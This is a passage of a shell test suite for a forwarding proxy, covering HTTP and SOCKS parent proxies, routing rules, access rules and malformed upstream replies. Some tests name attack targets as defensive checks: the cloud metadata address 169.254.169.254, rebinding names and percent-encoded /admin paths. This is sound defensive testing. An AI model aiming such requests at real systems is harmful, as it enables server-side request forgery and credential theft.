	like "$(header Via | head -n 1)" '^1\.1 proxy'
	is "$(header Proxy-Authorization)$(header X-Forwarded-For)$(header Proxy-Connection)" ''
	has "$(cat head)" 'GET http://nothing.invalid:8080/ HTTP/1.1'
}

test_an_http_parent_is_asked_by_connect_for_tunnels_and_socks() {
	origin head 'send:HTTP/1.1 200 Connection established\r\n\r\n' read:ping send:pong rest
	start_logged --log-format '%>s %{upstream}x' -x "http://127.0.0.1:$origin"
	talk "$port" "send:$(connect_head nothing.invalid:443)ping" 'read:\r\n\r\n' read:pong >got || fail 'no tunnel'
	like "$(head -n 1 got)" '^HTTP/1\.1 200 '
	talk "$port" "send:$no_login\x05\x01\x00$(named nothing.invalid)\x01\xbbping" read:pong >got || fail 'no tunnel for SOCKS5'
	talk "$port" 'send:\x04\x01\x01\xbb\x00\x00\x00\x01\x00nothing.invalid\x00ping' read:pong >got || fail 'no tunnel for SOCKS4a'
	for k in 1 2 3; do
		is "$(tr -d '\r' <"got$m.$k" | sed -n 1p)" 'CONNECT nothing.invalid:443 HTTP/1.1'
		parent_got $k
		is "$(header Host)" nothing.invalid:443
		is "$(header Proxy-Authorization)" ''
	done
	logged 3
	is "$(sort -u log)" "200 127.0.0.1:$origin"
}

test_another_proxy_of_ours_is_a_parent_of_every_kind() {
	start -r /=echo
	inner=$port
	start_logged --log-format combined -u bob:secret
	parent=$port
	for scheme in http socks5 socks5h; do
		: >log
		start -x "$scheme://bob:secret@127.0.0.1:$parent"
		both
		wait_for lines_in 4 log || fail "these went through a parent by $scheme: $(cat log)"
		is "$(grep -c '^127\.0\.0\.1 - bob ' log)" 4 "number of lines with the login by $scheme"
		start -x "$scheme://bob:wrong@127.0.0.1:$parent"
		is "$(through "http://127.0.0.1:$inner/")" 502 "status with a wrong login by $scheme"
		is "$(header Proxy-Authenticate)" '' 'what only concerns us and the parent'
		is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 502 "status of a tunnel with a wrong login by $scheme"
		start -x "$scheme://127.0.0.1:$parent"
		is "$(through "http://127.0.0.1:$inner/")" 502 "status without a login by $scheme"
	done
}

test_tinyproxy_is_a_parent() {
	need tinyproxy
	start -r /=echo
	inner=$port
	free=$("$peer" port)
	printf 'Port %s\nListen 127.0.0.1\nBasicAuth bob secret\nLogFile "%s/tinyproxy.log"\nMaxClients 50\n' "$free" "$PWD" >tinyproxy.conf
	tinyproxy -d -c tinyproxy.conf >tinyproxy.out 2>&1 &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "tinyproxy does not start: $(cat tinyproxy.out)"
	start -x "http://bob:secret@127.0.0.1:$free"
	both
	head -c 3000000 /dev/urandom >big
	is "$(tunnel --data-binary @big "http://127.0.0.1:$inner/")" 200
	start -x "http://bob:wrong@127.0.0.1:$free"
	like "$(through "http://127.0.0.1:$inner/")" '^(401|502)$' 'status with a wrong login, which it answers with 401 as an origin would'
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 502
}

test_squid_is_a_parent() {
	command -v squid >/dev/null || PATH=$PATH:/usr/sbin
	need squid openssl
	for auth in /usr/lib/squid/basic_ncsa_auth /usr/lib64/squid/basic_ncsa_auth /usr/libexec/squid/basic_ncsa_auth none; do [ ! -x $auth ] || break; done
	[ $auth != none ] || skip 'squid without basic_ncsa_auth here'
	start -r /=echo
	inner=$port
	free=$("$peer" port)
	chmod 711 "$tmp"  # squid runs as a user of its own
	mkdir -m 777 squid
	echo "bob:$(openssl passwd -apr1 secret)" >squid/passwd
	cat >squid.conf <<-END
	http_port 127.0.0.1:$free
	pid_filename none
	access_log none
	cache_store_log none
	cache_log $PWD/squid/log
	coredump_dir $PWD/squid
	netdb_filename none
	pinger_enable off
	cache deny all
	visible_hostname parent.test
	dns_nameservers 127.0.0.1
	shutdown_lifetime 0 seconds
	auth_param basic program $auth $PWD/squid/passwd
	auth_param basic children 1
	acl in proxy_auth REQUIRED
	http_access allow in
	END
	squid -N -f "$PWD/squid.conf" >squid.out 2>&1 &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "squid does not start: $(cat squid.out)"
	start -x "http://bob:secret@127.0.0.1:$free"
	both
	for i in 1 2 3; do is "$(through "http://127.0.0.1:$inner/$i")" 200; done
	start -x "http://bob:wrong@127.0.0.1:$free"
	is "$(through "http://127.0.0.1:$inner/")" 502
	is "$(connect_code -x "$url" "http://127.0.0.1:$inner/")" 502
}

test_ssh_is_a_socks_parent() {
	start -r /=echo
	inner=$port
	sshd_up
	free=$("$peer" port)
	$ssh -N -D "127.0.0.1:$free" 127.0.0.1 2>ssh.err &
	helpers="$helpers $!"
	up() { "$peer" talk "$free" 2>/dev/null; }
	wait_for up || fail "ssh -D does not start: $(cat ssh.err)"
	start -x "socks5://127.0.0.1:$free"
	both
	is "$(through "http://127.0.0.1:$("$peer" port)/")" 502 'status for a port that refuses'
	head -c 3000000 /dev/urandom >big
	start -r file:big
	inner=$port
	start -x "socks5://127.0.0.1:$free"
	get -x "$url" "http://127.0.0.1:$inner/" | cmp - big || fail 'it differs'
	get -p -x "$url" "http://127.0.0.1:$inner/" | cmp - big || fail 'it differs through a tunnel'
}

test_the_login_for_a_parent_is_decoded_and_sent_by_every_way() {
	origin head "$ok_empty" again
	start -x "http://us%40er:pa%3Ass%20w%2f@127.0.0.1:$origin"
	is "$(through -U mine:own http://h.invalid/)" 200
	parent_got 1
	is "$(header Proxy-Authorization)" "Basic $(printf 'us@er:pa:ss w/' | base64)"
	start -x "http://user@127.0.0.1:$origin"
	is "$(connect_code -x "$url" http://h.invalid/)" 200
	parent_got 2
	is "$(header Proxy-Authorization)" "Basic $(printf 'user:' | base64)"
	origin 'read:\x02' 'send:\x05\x02' "read:\x01\x05us@er\x05pa:ss" 'send:\x01\x00' "read:\x05\x01\x00$(named h.invalid)\x00\x50" 'send:\x05\x00\x00\x01\0\0\0\0\0\0' head "$ok_empty" rest
	start -x "socks5://us%40er:pa%3Ass@127.0.0.1:$origin"
	is "$(through http://h.invalid/x)" 200
	like "$(od -An -v -tx1 "got$m.1" | tr -d ' \n')" '^05(0102|020002|020200)010575734065720570613a7373050100'
	has "$(cat "got$m.1")" 'GET /x HTTP/1.1' 'what comes through a SOCKS parent'
	origin take:3 'send:\x05\x00' "read:\x05\x01\x00$here$(octets16 80)" 'send:\x05\x00\x00\x01\0\0\0\0\0\0' head "$ok_empty" rest
	start -x "socks5://127.0.0.1:$origin"
	is "$(through http://127.0.0.1/x)" 200
	like "$(od -An -v -tx1 "got$m.1" | tr -d ' \n')" '^050100050100017f0000010050' 'what a SOCKS parent without a login gets'
}

test_a_parent_s_port_is_80_or_1080_unless_given() {
	try --dry-run -x a.test=http://h -x b.test=socks5://h -x c.test=socks5h://h -x http://h:80 -l 0
	is "$status" 0
	for parent in http://h:80 socks5://h:1080 http://h:80; do
		printf '%s\n' "$out" | grep -q "$parent\$" || fail "no $parent in $out"
	done
}

test_the_login_for_a_parent_is_that_of_its_host() {
	origin head "$ok_empty" again
	start -x "a.test=http://one:x@127.0.0.1:$origin" -x "b.test=http://two:y@127.0.0.1:$origin" -x "http://127.0.0.1:$origin"
	for host in a b c a b c; do is "$(through "http://$host.test/")" 200; done
	cat "got$m."* | tr -d '\r' >all
	awk '/^GET / { host = $2 } /^Proxy-Authorization:/ { print host, $3 }' all | sort | uniq -c | awk '{ print $1, $2, $3 }' >seen
	is "$(cat seen)" "2 http://a.test/ $(printf one:x | base64)
2 http://b.test/ $(printf two:y | base64)"
}

test_the_longest_host_chooses_the_parent() {
	three
	start -x one.test=http://127.0.0.1:$a -x sub.one.test=http://127.0.0.1:$b -x http://127.0.0.1:$c
	while read -r host want; do
		is "$(get -x "$url" "http://$host/")" "$want" "the parent for $host"
	done <<-END
	one.test a
	x.one.test a
	ONE.TEST a
	sub.one.test b
	a.b.sub.one.test b
	notone.test c
	one.test.example c
	test c
	192.0.2.1 c
	END
}

test_direct_and_addresses_choose_the_parent_too() {
	have_ipv6
	three
	start -r /=200:direct
	inner=$port
	start -x 127.0.0.0/8=direct -x localhost=direct -x 198.51.100.0/24=http://127.0.0.1:$a -x 198.51.100.128/25=http://127.0.0.1:$b -x 2001:db8::/32=http://127.0.0.1:$b \
		-x http://127.0.0.1:$c
	while read -r host want; do
		is "$(get -g -x "$url" "http://$host/")" "$want" "the parent for $host"
	done <<-END
	127.0.0.1:$inner direct
	localhost:$inner direct
	198.51.100.1 a
	198.51.100.129 b
	[2001:db8::1] b
	[2001:db9::1] c
	192.0.2.1 c
	h.invalid c
	END
	start -x private=http://127.0.0.1:$a -x http://127.0.0.1:$b
	for host in 10.1.2.3 192.168.0.1 172.16.0.1 100.64.0.1 '[fd00::1]' "127.0.0.1:$inner" "localhost:$inner"; do
		is "$(get -g -x "$url" "http://$host/")" a "the parent for $host"
	done
	is "$(get -x "$url" http://192.0.2.1/)" b
	is "$(get -x "$url" http://h.invalid/)" b 'the parent for a name that does not resolve'
	start -x private=direct -x http://127.0.0.1:$b
	is "$(get -x "$url" "http://127.0.0.1:$inner/")" direct
	is "$(get -p -x "$url" "http://127.0.0.1:$inner/")" direct
	is "$(get -x "$url" http://192.0.2.1/)" b
	start -x h.invalid=http://127.0.0.1:$a
	is "$(get -x "$url" "http://127.0.0.1:$inner/")" direct 'without one for the rest, the answer'
}

test_the_addresses_of_a_name_choose_a_parent_and_a_host_comes_before_them() {
	printf '127.0.0.1 localhost\n198.51.100.7 net.test host.test\n203.0.113.7 other.test\n10.0.0.7 inside.test\n' >hosts
	with_file hosts /etc/hosts
	three
	start -x 198.51.100.0/24=http://127.0.0.1:$a -x host.test=http://127.0.0.1:$b -x http://127.0.0.1:$c -x private=http://127.0.0.1:$b
	while read -r host want; do
		is "$(get -x "$url" "http://$host/")" "$want" "the parent for $host"
	done <<-END
	net.test a
	host.test b
	other.test c
	inside.test b
	198.51.100.200 a
	END
}

test_guarded_addresses_are_refused_before_a_parent_is_asked() {
	origin head "$ok_empty" again
	start_logged --log-format '%>s %{why}x' -x "http://127.0.0.1:$origin" -d denied.example
	for host in 169.254.169.254 '[fe80::1]' '[::ffff:169.254.169.254]' 224.0.0.1 0.0.0.0; do
		is "$(code -g -x "$url" "http://$host/")" 403 "status of $host"
		is "$(connect_code -g -x "$url" "http://$host:443/")" 403 "status of CONNECT $host"
	done
	is "$(socks5 '\x01\xa9\xfe\xa9\xfe' 80)" 2
	is "$(through http://denied.example/)" 403
	is "$(through "http://127.0.0.1:$port/")" 508
	[ ! -e "got$m.1" ] || fail "the parent is asked: $(cat "got$m.1")"
	is "$(through http://localhost/)" 200 'status of a name that may be asked for here'
	is "$(through http://name.example/)" 200 'status of a name that only the parent knows'
	start_as -q -l :0 -a from:private -x "http://127.0.0.1:$origin"
	for host in localhost 127.0.0.1; do
		is "$(through "http://$host/")" 403 "off loopback, status of $host"
	done
	is "$(connect_code -x "$url" http://name.example:8443/)" 403 'off loopback, CONNECT to another port than 443'
}

test_names_are_left_to_the_parent_unless_a_rule_needs_an_address() {
	printf '127.0.0.1 localhost\n127.0.0.1 rebind.test\n198.51.100.7 far.test\n' >hosts
	with_file hosts /etc/hosts
	origin head "$ok_empty" again
	start -x "http://127.0.0.1:$origin"
	is "$(through http://rebind.test/)" 200 'status of a name that is another for the parent'
	start -x "http://127.0.0.1:$origin" -d to:198.51.100.0/24
	is "$(through http://far.test/)" 403
	is "$(connect_code -x "$url" http://far.test:443/)" 403
}

test_a_parent_that_refuses_is_502() {
	for answer in '407 Proxy Authentication Required\r\nProxy-Authenticate: Basic realm=x' '403 Forbidden' '503 Busy' '500 No' '302 Found\r\nLocation: http://h/' '400 Bad'; do
		origin head "send:HTTP/1.1 $answer\r\nContent-Length: 7\r\n\r\nsecrets" rest
		start_logged --log-format '%>s %{why}x' -x "http://127.0.0.1:$origin"
		is "$(connect_code -x "$url" http://h.invalid/)" 502 "status of CONNECT for $answer"
		hasnt "$(cat head body 2>/dev/null)" secrets
		like "$(socks5 "$(named h.invalid)" 443)" '^[125]$' "SOCKS5 reply for $answer"
		logged 2
		is "$(sort -u log)" '502 parent-refused'
		stop
		rm -f log head body
	done
	origin head 'send:HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Basic realm=x\r\nContent-Length: 7\r\n\r\nsecrets' rest
	start_logged --log-format '%>s %{why}x' -x "http://127.0.0.1:$origin"
	is "$(through http://h.invalid/)" 502
	is "$(header Proxy-Authenticate)" ''
	logged
	is "$(cat log)" '502 parent-refused'
	origin head 'send:HTTP/1.1 403 Forbidden\r\nContent-Length: 2\r\n\r\nno' rest
	start -x "http://127.0.0.1:$origin"
	is "$(through http://h.invalid/)" 403 'an answer to a plain request, passed on'
	for reply in 1 2 3 4 5 6 7 8 9 255; do
		origin take:3 'send:\x05\x00' take:5 "send:\x05$(octet $reply)\x00\x01\0\0\0\0\0\0" rest
		start_as -l 0 -o socks --log-format '%>s %{why}x' -x "socks5://127.0.0.1:$origin"
		case $reply in 3 | 4 | 5) want='^502 (parent-refused|connect-failed)$' ;; 6) want='^(502 parent-refused|504 connect-late)$' ;; *) want='^502 parent-refused$' ;; esac
		like "$(through http://h.invalid/)" '^50[24]$' "status for reply $reply"
		like "$(connect_code -x "$url" http://h.invalid/)" '^50[24]$' "status of CONNECT for reply $reply"
		wait_for lines_in 2 socks
		like "$(sort -u socks)" "$want" "the log for reply $reply"
		stop
		rm socks
	done
	origin take:3 'send:\x05\xff' rest
	start -x "socks5://127.0.0.1:$origin"
	is "$(through http://h.invalid/)" 502
	origin take:4 'send:\x05\x02' take:5 'send:\x01\x01' rest
	start -x "socks5://a:b@127.0.0.1:$origin"
	is "$(through http://h.invalid/)" 502
}

test_a_parent_that_cannot_be_reached_is_named_so() {
	[ "$(uname)" = Linux ] || skip "a full queue drops connections on Linux"
	helper full
	full=$said
	dead=1
	start_logged --log-format '%>s %{why}x' -t connect=500ms -x dead.test=http://127.0.0.1:$dead -x late.test=http://127.0.0.1:$full \
		-x name.test=http://nothing.invalid:80 -x sdead.test=socks5://127.0.0.1:$dead -x slate.test=socks5://127.0.0.1:$full
	for host in dead sdead; do
		is "$(through http://$host.test/)" 502
		is "$(connect_code -x "$url" http://$host.test/)" 502
	done
	for host in late slate; do
		is "$(through http://$host.test/)" 504
		is "$(connect_code -x "$url" http://$host.test/)" 504
	done
	like "$(through http://name.test/)" '^50[24]$'
	logged 9
	is "$(sed -n 1,4p log | sort -u)" '502 connect-failed'
	is "$(sed -n 5,8p log | sort -u)" '504 connect-late'
	like "$(sed -n 9p log)" '^50[24] name-(unknown|late)$'
}

test_odd_answers_to_connect_are_understood() {
	while IFS='|' read -r actions; do
		eval "set -- $actions"
		origin head "$@" read:ping send:pong rest
		start -x "http://127.0.0.1:$origin"
		(talk "$port" "send:$(connect_head h.invalid:443)" 'read:\r\n\r\n' send:ping read:pong >got || fail "no tunnel after $actions: $(cat got)"
		like "$(head -n 1 got)" '^HTTP/1\.1 200 '
		hasnt "$(sed '/^\r*$/q' got)" X-Odd 'the head of the answer'
		grep -Eai '^(content-length|transfer-encoding):' got && fail "framing after $actions"
		:) || bad=1
		stop
	done <<-'END'
	'send:HTTP/1.1 200 OK\r\n\r\n'
	'send:HTTP/1.0 200 Connection established\r\nProxy-agent: x\r\n\r\n'
	'send:HTTP/1.1 200 \r\nConnection: close\r\nX-Odd: 1\r\n\r\n'
	'send:HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\n'
	'send:HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n'
	'send:HTTP/1.1 201 Created\r\nX-Odd: 1\r\n\r\n'
	'send:HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n\r\n'
	'send:HTTP/1.1 103 Early Hints\r\nX-Odd: 1\r\n\r\n' nap:20 'send:HTTP/1.1 102 Processing\r\n\r\nHTTP/1.1 200 OK\r\n\r\n'
	'drip:3:HTTP/1.1 200 Connection established\r\nX: y\r\n\r\n'
	END
	[ -z "${bad-}" ] || exit 1
	origin head 'send:HTTP/1.1 200 OK\r\n\r\nSSH-2.0-early\r\n' read:ping send:pong rest
	start -x "http://127.0.0.1:$origin"
	talk "$port" "send:$(connect_head h.invalid:22)ping" 'read:\r\n\r\nSSH-2.0-early\r\n' read:pong >got || fail "what follows the head of the answer is lost: $(cat got)"
	got=$(socks_hears "send:$no_login\x05\x01\x00$(named h.invalid)\x00\x16ping" read:pong)
	like "$got" '^0500050000010{12}5353482d322e302d6561726c790d0a706f6e67$' 'what a SOCKS client gets'
}

test_wrong_answers_to_connect_are_502_or_504() {
	huge=$(head -c 40000 /dev/zero | tr '\0' x)
	while IFS='|' read -r want actions; do
		eval "set -- $actions"
		origin head "$@"
		start_logged --log-format '%>s' -t connect=1,response=1 -x "http://127.0.0.1:$origin"
		(is "$(connect_code -m 6 -x "$url" http://h.invalid/)" "$want" "status of CONNECT for $(printf %.60s "$actions")"
		wait_for lines_in 1 log && is "$(cat log)" "$want" 'the log'
		reply=$(socks5 "$(named h.invalid)" 443)
		case $reply in 1 | 5 | 6) ;; *) fail "SOCKS5 reply for $(printf %.60s "$actions") is '$reply'" ;; esac) || bad=1
		stop
		rm log
	done <<-END
	502|'send:HTTP/1.1 200 O'
	502|'send:HTTP/1.1 200 OK\\r\\nX: y\\r\\n'
	502|reset
	502|nap:50
	502|'send:SSH-2.0-something\\r\\n\\r\\n' rest
	502|'send:HTTP/1.1 20 OK\\r\\n\\r\\n' rest
	502|'send:HTTP/1.1 2000 OK\\r\\n\\r\\n' rest
	502|'send:HTTP/1.1 200 OK\\r\\nNo colon\\r\\n\\r\\n' rest
	502|'send:HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: x\\r\\nConnection: upgrade\\r\\n\\r\\n' rest
	502|'send:HTTP/1.1 200 OK\\r\\nX: $huge\\r\\nX: $huge\\r\\nX: $huge\\r\\n\\r\\n' rest
	502|'send:HTTP/1.1 200 OK\\r\\nX: ' pour:200000 rest
	502|'send:HTTP/1.1 100 Continue\\r\\n\\r\\n'
	504|hang
	504|'send:HTTP/1.1 200 OK\\r\\n' hang
	504|'send:HTTP/1.1 100 Continue\\r\\n\\r\\n' hang
	504|'drip:200:HTTP/1.1 200 Connection established\\r\\n\\r\\n' rest
	END
	[ -z "${bad-}" ] || exit 1
}

test_odd_replies_of_a_socks_parent_are_understood() {
	while IFS='|' read -r actions; do
		eval "set -- $actions"
		origin "$@" read:ping send:pong rest
		start -x "socks5://127.0.0.1:$origin"
		(talk "$port" "send:$(connect_head h.invalid:443)" 'read:\r\n\r\n' send:ping read:pong >got || fail "no tunnel after $actions: $(cat got)"
		like "$(head -n 1 got)" '^HTTP/1\.1 200 ') || bad=1
		stop
	done <<-'END'
	take:3 'drip:5:\x05\x00' take:16 'drip:5:\x05\x00\x00\x01\x7f\x00\x00\x01\x01\xbb'
	take:3 'send:\x05\x00' take:16 'send:\x05\x00\x00\x04\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0'
	take:3 'send:\x05\x00' take:16 'drip:2:\x05\x00\x00\x03\x0cbound.parent\x01\xbb'
	take:3 'send:\x05\x00' take:16 'send:\x05\x00\x00\x03\x00\x01\xbb'
	END
	[ -z "${bad-}" ] || exit 1
	origin take:3 'send:\x05\x00' take:16 'send:\x05\x00\x00\x01\0\0\0\0\0\0SSH-2.0-early\r\n' read:ping send:pong rest
	start -x "socks5://127.0.0.1:$origin"
	talk "$port" "send:$(connect_head h.invalid:22)ping" 'read:\r\n\r\nSSH-2.0-early\r\n' read:pong >got || fail "what follows the reply is lost: $(cat got)"
}

test_wrong_replies_of_a_socks_parent_are_502_or_504() {
	while IFS='|' read -r want actions; do
		eval "set -- $actions"
		origin "$@"
		start -t connect=1,response=1 -x "socks5://127.0.0.1:$origin"
		(is "$(code -m 6 -x "$url" http://h.invalid/)" "$want" "status for $actions"
		is "$(connect_code -m 6 -x "$url" http://h.invalid/)" "$want" "status of CONNECT for $actions") || bad=1
		stop
	done <<-'END'
	502|take:3
	502|take:3 reset
	502|take:3 'send:\x05'
	502|take:3 'send:\x04\x00' rest
	502|take:3 'send:\x05\x01' rest
	502|take:3 'send:\x05\x02' rest
	502|take:3 'send:HTTP/1.1 400 Bad Request\r\n\r\n' rest
	502|take:3 'send:\x05\x00' take:16
	502|take:3 'send:\x05\x00' take:16 'send:\x05\x00\x00\x01\x7f'
	502|take:3 'send:\x05\x00' take:16 'send:\x04\x00\x00\x01\0\0\0\0\0\0' rest
	502|take:3 'send:\x05\x00' take:16 'send:\x05\x00\x00\x09\0\0\0\0\0\0' rest
	504|take:3 hang
	504|take:3 'send:\x05\x00' take:16 hang
	504|take:3 'send:\x05\x00' take:16 'send:\x05\x00\x00\x01' hang
	504|take:3 'drip:400:\x05\x00' take:16 'drip:400:\x05\x00\x00\x01\0\0\0\0\0\0' rest
	END
	[ -z "${bad-}" ] || exit 1
}

test_connections_to_an_http_parent_are_used_again() {
	origin head "$ok_empty" again
	start -x "http://127.0.0.1:$origin"
	for host in one.test two.test 192.0.2.1 one.test:8080; do
		is "$(through "http://$host/")" 200
	done
	is "$(ls got*.* | wc -l | tr -d ' ')" 1 'number of connections'
	origin head "$ok_empty" reset
	start -x "http://127.0.0.1:$origin"
	for host in one.test two.test three.test; do
		is "$(through "http://$host/")" 200
		"$peer" nap 50
	done
	start -r /=echo
	inner=$port
	start_logged --log-format '%k %X %m'
	parent=$port
	start -x "http://127.0.0.1:$parent"
	is "$(tunnel "http://127.0.0.1:$inner/")" 200
	is "$(tunnel "http://127.0.0.1:$inner/")" 200
	logged 2
	is "$(cut -d' ' -f1 log | sort -u)" 0 'number of requests before a CONNECT on its connection'
}

test_a_connection_through_a_socks_parent_is_used_again_for_its_server_only() {
	start -r /=echo
	inner=$port
	start_logged --log-format '%U %m'
	start -x "socks5://127.0.0.1:$port"
	for i in 1 2 3; do is "$(through "http://127.0.0.1:$inner/$i")" 200; done
	is "$(through "http://localhost:$inner/4")" 200
	is "$(member target) $(field Host)" "/4 localhost:$inner"
	stop
	logged 2
	is "$(wc -l <log | tr -d ' ')" 2 'number of connections through the parent'
}

test_half_closes_and_files_pass_through_parents() {
	need sha256sum
	head -c 8000000 /dev/urandom >big
	want=$(sha256sum <big)
	start -r file:big
	inner=$port
	start
	parent=$port
	for scheme in http socks5; do
		start -x "$scheme://127.0.0.1:$parent"
		is "$(get -x "$url" "http://127.0.0.1:$inner/" | sha256sum)" "$want" "what comes by $scheme"
		is "$(get -p -x "$url" "http://127.0.0.1:$inner/" | sha256sum)" "$want" "what comes by $scheme through a tunnel"
		is "$(get --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/" | sha256sum)" "$want" "what comes by $scheme through SOCKS"
		origin read:early send:late rest send:after-eof
		talk "$port" "send:$(connect_head "127.0.0.1:$origin")early" 'read:\r\n\r\n' read:late shut read:after-eof rest >got ||
			fail "octets or their ends are lost by $scheme: $(cat got)"
		origin head "save:8000000:up" "$ok_empty" rest
		is "$(through -H Expect: -T big "http://127.0.0.1:$origin/")" 200
		is "$(sha256sum <up)" "$want" "what goes by $scheme"
	done
}

test_a_parent_that_is_the_proxy_itself_is_a_loop() {
	free=$("$peer" port)
	for scheme in http socks5; do
		start_as -q -l "$free" -x "$scheme://127.0.0.1:$free"
		like "$(through -m 10 http://h.invalid/)" '^50[0-9]$' "status by $scheme"
		like "$(connect_code -m 10 -x "$url" http://h.invalid/)" '^50[0-9]$' "status of CONNECT by $scheme"
		stop
	done
}

test_the_login_for_a_parent_shows_nowhere() {
	need_proc
	origin head "$ok_empty" again
	start_as -l 0 -o log --log-format json -v -x "http://bob:geheim@127.0.0.1:$origin"
	may_say .
	is "$(through http://h.invalid/)" 200
	like "$(connect_code -x "$url" http://h.invalid/)" '^(200|50[0-9])$'
	hasnt "$(cat /proc/"$pid"/cmdline /proc/"$pid"/environ | tr '\0' ' ')" geheim 'the command line'
	stop
	hasnt "$(cat log "err.$n")" geheim 'what is written'
	hasnt "$(cat log "err.$n")" "$(printf bob:geheim | base64)" 'what is written'
}

test_a_parent_may_be_a_name_or_an_ipv6_address() {
	have_ipv6
	start -r /=echo
	inner=$port
	start
	start -x "http://localhost:$port"
	both
	start_as -q -l '[::1]:0' -f -a to:127.0.0.0/8
	parent=$port
	for scheme in http socks5; do
		start -x "$scheme://[::1]:$parent"
		both
	done
}

test_an_http_parent_gets_options_upgrades_and_content_as_they_are() {
	origin head "$ok_empty" head 'send:HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n' mirror
	start -u bob:secret -x "http://127.0.0.1:$origin"
	login="Proxy-Authorization: Basic $(printf bob:secret | base64)\r\n"
	talk "$port" "send:OPTIONS http://h.invalid HTTP/1.1\r\nHost: h.invalid\r\n$login\r\n" 'read:\r\n\r\n' \
		"send:GET http://h.invalid/ws HTTP/1.1\r\nHost: h.invalid\r\n${login}Connection: upgrade\r\nUpgrade: echo\r\n\r\n" \
		'read:HTTP/1.1 101 ' 'read:\r\n\r\n' send:ping read:ping >got || fail "no upgrade: $(cat got)"
	parent_got 1
	is "$(head -n 1 ./head)" 'OPTIONS http://h.invalid HTTP/1.1' 'OPTIONS of a whole server, for a proxy that is not the last'
	is "$(header Proxy-Authorization)" '' 'a login that was consumed'
	start -r /=echo
	inner=$port
	start
	start -x "http://127.0.0.1:$port"
	is "$(through -H 'Transfer-Encoding: chunked' -H 'Expect: 100-continue' -d 'in chunks' "http://127.0.0.1:$inner/")" 200
	is "$(member content)" 'in chunks'
	is "$(through -I "http://127.0.0.1:$inner/")" 200
}

test_descriptors_do_not_leak_by_socks_headers_and_parents() {
	need_proc
	start -r /=200
	inner=$port
	dead=1
	origin head 'send:HTTP/1.1 200 OK\r\n' reset
	start_as -q -l 0 -l 0,proxy -f -t pool=1s,keepalive=1s,tunnel=1s -x cut.test=http://127.0.0.1:$origin -x dead.test=socks5://127.0.0.1:$dead
	header_port=$(sed -n 's/.*://;2p' "out.$n")
	once() {
		code --socks5 "127.0.0.1:$port" "http://127.0.0.1:$inner/" >codes
		for host in cut.test dead.test; do code -x "$url" "http://$host/" >codes; connect_code -x "$url" "http://$host/" >codes; done
		socks5 "$(named cut.test)" 443 >codes
		for part in '\x05' "$no_login" "$no_login\x05\x01\x00" '\x04\x01' "\x04\x01\x00\x50\x00\x00\x00\x01\x00"; do talk "$port" "send:$part" reset; done
		for part in PROXY "$of_seven" "$v2" 'PROXY TCP4 x\r\n'; do talk "$header_port" "send:$part" reset; done
	}
	once
	settled() { [ "$(descriptors "$pid")" -le "$most" ]; }
	"$peer" nap 1200
	most=$(descriptors "$pid")
	i=0
	while [ $i -lt 15 ]; do once; i=$((i + 1)); done
	wait_for settled || fail "$(descriptors "$pid") descriptors, $most before"
}

# ---- access: -a -d -u --max --trust ----

# judged RULES: each line "STATUS ARGUMENTS OF CURL" must be so under proxy RULES; $u is its URL
judged() {
	start -r /=200:ok "$@"
	u=$url
	while read -r want request; do
		(eval "is \"\$(code $request)\" $want \"with '\$*', status of: curl \$request; it\"") || bad=1
	done
	stop
	[ -z "${bad-}" ] || exit 1
}

test_a_denied_request_gets_403_and_the_order_of_rules_does_not_matter() {
	judged -d /private -a all <<-'END'
	200 $u/public
	403 $u/private
	403 $u/private/below
	200 $u/privately
	END
	judged -a /public -d /public/not <<-'END'
	200 $u/public/x
	403 $u/public/not
	403 $u/other
	END
	judged -d /public/not -a /public -a /more <<-'END'
	403 $u/public/not
	200 $u/more
	END
}

test_rules_about_where_a_request_comes_from() {
	judged -d from:127.0.0.0/8 <<-'END'
	403 $u
	END
	judged -d from:10.0.0.0/8 -d from:127.0.0.2 -a from:127.0.0.1/32 <<-'END'
	200 $u
	END
	judged -d from:private <<-'END'
	403 $u
	END
	judged -a from:10.0.0.0/8,from:127.0.0.1 <<-'END'
	200 $u
	END
}

test_rules_about_the_authority_asked_for() {
	judged -d example.com -d to:bad.test -d to:192.0.2.0/24 -d to:198.51.100.7 <<-'END'
	200 $u
	403 -H "Host: example.com" $u
	403 -H "Host: www.example.com" $u
	403 -H "Host: WWW.EXAMPLE.COM:8080" $u
	200 -H "Host: notexample.com" $u
	200 -H "Host: example.com.org" $u
	403 -H "Host: a.bad.test" $u
	403 -H "Host: 192.0.2.9" $u
	403 -H "Host: 198.51.100.7:99" $u
	END
	judged -d example.com:81 -d port:90-92 <<-'END'
	403 -H "Host: example.com:81" $u
	200 -H "Host: example.com" $u
	200 -H "Host: example.com:82" $u
	200 -H "Host: h:89" $u
	403 -H "Host: h:90" $u
	403 -H "Host: h:92" $u
	200 -H "Host: h:93" $u
	END
	judged -d port:80 <<-'END'
	403 -H "Host: h" $u
	200 -H "Host: h:81" $u
	END
}

test_rules_about_the_method() {
	judged -d POST -d method:PURGE <<-'END'
	200 $u
	403 -d x $u
	403 -X PURGE $u
	200 -X post $u
	END
}

test_rules_about_the_path() {
	judged -d '/a*z' -d 'path:/q?x' -d /dir/ -d '/*.php' <<-'END'
	403 $u/abcz
	403 $u/a/b/z
	200 $u/abc
	403 $u/qqx
	200 $u/qx
	403 $u/dir
	403 $u/dir/x
	200 $u/directory
	403 $u/x/y.php
	200 $u/x/y.php5
	200 "$u/q?x=abcz"
	END
}

test_a_path_is_compared_with_its_escapes_decoded() {
	judged -d /admin -d /a%2Fb <<-'END'
	403 $u/%61dmin
	403 $u/ad%6Din/x
	403 $u/%61%64%6d%69%6e
	200 $u/Admin
	200 $u/a/b
	403 $u/a%2fb
	403 $u/a%2Fb
	END
}

test_rules_about_a_header() {
	judged -d 'header:User-Agent=*bot*' -d header:X-Exact=yes <<-'END'
	200 $u
	403 -A "a bot here" $u
